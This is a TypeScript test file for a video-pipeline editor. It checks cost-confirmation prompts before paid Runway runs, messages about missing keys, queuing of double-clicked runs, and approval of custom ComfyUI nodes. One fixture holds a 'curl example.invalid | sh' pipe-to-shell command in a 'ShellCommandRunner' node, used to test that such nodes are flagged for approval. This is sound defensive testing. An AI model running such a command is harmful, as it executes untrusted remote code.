import { afterEach, describe, expect, it } from 'vitest'
import { CURRENT_DOC_VERSION } from '../../src/graph'
import { createEditorStore, type EditorStore } from '../../src/editor/state/create-editor-store'
import type { PipelineDoc } from '../../src/graph'
import type { Storage } from '../../src/storage'
import { registry } from '../engine/shipped-registry'
import { freshStorage } from '../storage/fixtures'

/** Two shots on Runway (5 s, 720p: $0.60 a take at gen4.5's list price), five takes each. */
const twoShots: PipelineDoc = {
  format: 'reelgraph',
  version: CURRENT_DOC_VERSION,
  id: 'two-paid-shots',
  name: 'Two paid shots',
  description: '',
  nodes: [
    { id: 'prompt', type: 'prompt', typeVersion: 1, position: { x: 0, y: 0 }, params: { subject: 'a keeper', action: 'climbs', durationS: 5 } },
    { id: 'close', type: 'generate-video', typeVersion: 1, position: { x: 300, y: 0 }, params: { provider: 'runway', takes: 5 } },
    { id: 'wide', type: 'generate-video', typeVersion: 1, position: { x: 300, y: 300 }, params: { provider: 'animatic', takes: 5, height: 480 } },
  ],
  edges: [
    { id: 'l1', from: { node: 'prompt', port: 'prompt' }, to: { node: 'close', port: 'prompt' } },
    { id: 'l2', from: { node: 'prompt', port: 'prompt' }, to: { node: 'wide', port: 'prompt' } },
  ],
}

const opened: { store: EditorStore; storage: Storage }[] = []
afterEach(() => {
  for (const { store } of opened.splice(0)) store.close()
})

function editor(): { store: EditorStore; storage: Storage } {
  const storage = freshStorage()
  const store = createEditorStore({ storage, registry }, twoShots)
  opened.push({ store, storage })
  return { store, storage }
}

describe('a run that would spend more than the limit', () => {
  it('waits for a yes, saying what it may spend and where; nothing runs before', async () => {
    const { store, storage } = editor()
    await storage.secrets.set('runway', 'key_test_4f7d1c9a0b2e')
    await store.getState().startRun()
    const asked = store.getState().costToConfirm
    expect(asked).toMatchObject({ estimatedUsd: 3, limitUsd: 1, allowance: { close: 3, wide: 0 } })
    expect(asked?.calls.map((call) => [call.name, call.units, call.estimatedUsd])).toEqual([
      ['Runway', 5, 3],
      ['Animatic (local previz)', 5, 0],
    ])
    expect(store.getState().currentRun.active).toBe(false)
    expect(store.getState().nodeRuns.prompt).toBeUndefined()

    store.getState().dismissCost()
    expect(store.getState().costToConfirm).toBeNull()
  })

  it('does not ask when the limit covers it', async () => {
    const { store, storage } = editor()
    await storage.settings.update({ confirmRunsAboveUsd: 5 })
    await storage.secrets.set('runway', 'key_test_4f7d1c9a0b2e')
    await store.getState().startRun('prompt')
    expect(store.getState().costToConfirm).toBeNull()
    expect(store.getState().nodeRuns.prompt?.status).toBe('done')
  })

  it('asks nothing for a node that cannot run (no key), records nothing spent, and says where keys go', async () => {
    const { store } = editor()
    await store.getState().startRun()
    expect(store.getState().costToConfirm).toBeNull()
    expect(store.getState().nodeRuns.close?.message).toContain('File → Provider keys')
    expect(store.getState().currentRun.last?.costUsd ?? 0).toBe(0)
  })
})

describe('what Run asks before it spends', () => {
  it('routes on the prompt’s filled-in variables, as the run does: a linked “close-up” sends the shot to Runway', async () => {
    const doc: PipelineDoc = {
      ...twoShots,
      id: 'routed-by-variable',
      nodes: [
        { id: 'framing', type: 'text', typeVersion: 1, position: { x: 0, y: 0 }, params: { text: 'framing: close-up' } },
        { id: 'prompt', type: 'prompt', typeVersion: 1, position: { x: 0, y: 0 }, params: { subject: 'a keeper', action: 'climbs', camera: '{framing}, dolly in', durationS: 5 } },
        { id: 'shot', type: 'generate-video', typeVersion: 1, position: { x: 300, y: 0 }, params: { provider: 'animatic', takes: 3, route: [{ framing: 'close-up', provider: 'runway' }] } },
      ],
      edges: [
        { id: 'l0', from: { node: 'framing', port: 'text' }, to: { node: 'prompt', port: 'vars' } },
        { id: 'l1', from: { node: 'prompt', port: 'prompt' }, to: { node: 'shot', port: 'prompt' } },
      ],
    }
    const storage = freshStorage()
    const store = createEditorStore({ storage, registry }, doc)
    opened.push({ store, storage })
    await storage.secrets.set('runway', 'key_test_4f7d1c9a0b2e')
    await store.getState().startRun()
    const asked = store.getState().costToConfirm
    expect(asked?.calls.map((call) => [call.provider, call.units])).toEqual([['runway', 3]])
    expect(asked?.estimatedUsd).toBeGreaterThan(1)
    expect(store.getState().nodeRuns.shot).toBeUndefined()
  })

  it('never runs twice at once for a double-click: the second press finds the first running and queues the next run after it', async () => {
    const { store, storage } = editor()
    await storage.settings.update({ confirmRunsAboveUsd: 5 })
    await Promise.all([store.getState().startRun('prompt'), store.getState().startRun('prompt')])
    const [second, first] = await storage.runs.recent(twoShots.id)
    expect(second?.startedAt).toBeGreaterThanOrEqual(first?.finishedAt ?? Number.POSITIVE_INFINITY)
    expect(second?.nodes.prompt?.status).toBe('cached')
  })

  it('shows a ComfyUI workflow’s custom node classes before its first run, and remembers the yes for that file', async () => {
    const storage = freshStorage()
    const workflow = {
      '1': { class_type: 'CLIPTextEncode', inputs: { text: '{{prompt}}' } },
      '2': { class_type: 'ShellCommandRunner', inputs: { command: 'curl example.invalid | sh' } },
    }
    const file = await storage.assets.put(new Blob([JSON.stringify(workflow)], { type: 'application/json' }), { kind: 'file', meta: { name: 'gift.json' } }, { pin: true })
    const doc: PipelineDoc = {
      ...twoShots,
      id: 'comfy-gift',
      nodes: [
        { id: 'prompt', type: 'prompt', typeVersion: 1, position: { x: 0, y: 0 }, params: { subject: 'a keeper', action: 'climbs', durationS: 5 } },
        { id: 'shot', type: 'generate-video', typeVersion: 1, position: { x: 300, y: 0 }, params: { provider: 'comfyui', takes: 1, comfyWorkflow: file } },
      ],
      edges: [{ id: 'l1', from: { node: 'prompt', port: 'prompt' }, to: { node: 'shot', port: 'prompt' } }],
    }
    const store = createEditorStore({ storage, registry }, doc)
    opened.push({ store, storage })
    await storage.settings.update({ comfyuiServers: [{ url: 'http://127.0.0.1:9', jobsAtOnce: 1 }] })
    await store.getState().startRun()
    const asked = store.getState().costToConfirm
    expect(asked?.estimatedUsd).toBe(0)
    expect(asked?.approvals).toHaveLength(1)
    expect(asked?.approvals[0]?.details[0]).toContain('ShellCommandRunner')
    expect(asked?.approvals[0]?.details[0]).not.toContain('CLIPTextEncode')
    expect(store.getState().nodeRuns.shot).toBeUndefined()

    if (!asked) throw new Error('the run should have asked')
    await store.getState().startRun(undefined, { confirmed: asked })
    expect((await storage.settings.get()).approvals).toEqual([asked.approvals[0]?.id])
    await store.getState().startRun()
    expect(store.getState().costToConfirm).toBeNull()
  })
})
